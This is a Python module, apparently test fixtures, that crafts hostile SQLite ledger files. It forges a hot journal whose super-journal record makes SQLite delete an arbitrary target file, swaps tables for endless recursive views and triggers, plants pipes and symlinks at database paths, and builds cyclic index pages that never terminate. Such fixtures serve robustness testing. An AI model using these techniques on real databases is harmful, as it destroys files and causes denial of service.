"""Malicious changes of a ledger, which delete files, never end or fill the memory."""

import os
import sqlite3
import struct
from contextlib import closing
from itertools import pairwise
from pathlib import Path

PAGE = 4096
DEPTH, FAN = 15, 9  # one page per level, and 9^15 paths to the leaf
ENDLESS = (
    "WITH RECURSIVE endless(n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM endless WHERE n >= 0) "
    "SELECT {} FROM endless WHERE n < 0"
)
# First bytes of journals and super-journal records
JOURNAL_MAGIC = bytes.fromhex("d9d505f920a163d7")
COLUMNS = {
    "run": "CAST(n AS TEXT) AS key, n AS value, n AS seal",
    "blocks": "n AS cell, n AS first, n AS units, n AS worker, n AS sums, n AS seal",
    "steps": "n AS name, n AS n, n AS arrays, n AS seal",
}


def name_super_journal(path, target):
    """Write a hot journal that names another file, which SQLite deletes after a rollback."""
    name = str(target).encode()
    header = JOURNAL_MAGIC + struct.pack(">IIIII", 0, 0, path.stat().st_size // PAGE, 512, PAGE)
    checksum = sum(struct.unpack(f"{len(name)}b", name)) & 0xFFFFFFFF
    place = struct.pack(">I", 2**30 // PAGE + 1)
    tail = place + name + struct.pack(">II", len(name), checksum) + JOURNAL_MAGIC
    Path(f"{path}-journal").write_bytes(header.ljust(512, b"\0") + tail)


def add_endless_view(path, table):
    """Replace a table by a view that never ends."""
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute(f"DROP TABLE {table}")
        connection.execute(f"CREATE VIEW {table} AS {ENDLESS.format(COLUMNS[table])}")


def add_endless_trigger(path):
    """Add a trigger that runs an endless query for every new row."""
    body = ENDLESS.format("n")
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute(f"CREATE TRIGGER t AFTER INSERT ON run BEGIN {body}; END")


def put_pipe(path, end):
    """Create a pipe at the path of a file of SQLite."""
    Path(f"{path}{end}").unlink(missing_ok=True)
    os.mkfifo(f"{path}{end}")


def put_link(path, end, target):
    """Create a link at the path of a file of SQLite."""
    Path(f"{path}{end}").unlink(missing_ok=True)
    Path(f"{path}{end}").symlink_to(target)


def add_cyclic_pages(path):
    """Make each page of the block index refer to the next page many times.

    Each page is valid, but a search never reaches the end.
    """
    with closing(sqlite3.connect(path)) as connection:
        query = "SELECT rootpage FROM sqlite_master WHERE name = 'sqlite_autoindex_blocks_1'"
        ((root,),) = connection.execute(query)
    content = bytearray(path.read_bytes())
    pages = len(content) // PAGE
    leaf = content[(root - 1) * PAGE : root * PAGE]
    (first,) = struct.unpack(">H", leaf[8:10])
    cell = leaf[first : first + leaf[first] + 1]  # the length of an entry, and the entry
    numbers = [root, *range(pages + 1, pages + DEPTH + 1)]
    content += bytes(PAGE * DEPTH)
    for number, below in pairwise(numbers):
        content[(number - 1) * PAGE : number * PAGE] = _inner_page(cell, below)
    content[(numbers[-1] - 1) * PAGE :] = leaf
    content[28:32] = struct.pack(">I", len(content) // PAGE)
    path.write_bytes(content)


def _inner_page(entry, below):
    """Return an inner index page whose pointers all lead to the same child page."""
    cell = struct.pack(">I", below) + entry
    starts = [PAGE - (place + 1) * len(cell) for place in range(FAN)]
    header = struct.pack(">BHHHBI", 2, 0, FAN, starts[-1], 0, below)
    page = bytearray(header + struct.pack(f">{FAN}H", *starts)).ljust(PAGE, b"\0")
    for start in starts:
        page[start : start + len(cell)] = cell
    return bytes(page)
